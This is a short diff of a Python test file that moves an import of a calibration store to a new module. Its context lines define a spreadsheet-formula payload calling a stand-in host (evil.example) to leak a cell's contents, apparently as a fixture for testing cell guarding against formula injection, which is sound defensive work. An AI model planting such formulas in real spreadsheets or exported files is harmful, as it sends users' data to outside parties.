@@ -17,8 +17,8 @@ from pathlib import Path
 from click.testing import CliRunner
 
 from scarbook.cli import main
-from scarbook.judge.calibrate import CalibrationStore
 from scarbook.judge.label_files import guard_cell, unguard_cell
+from scarbook.judge.label_store import CalibrationStore
 from tests.helpers.judge_server import JUDGE_TIMEOUT_S, judge_server, tool_reply  # noqa: F401
 
 ARTIFACT = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
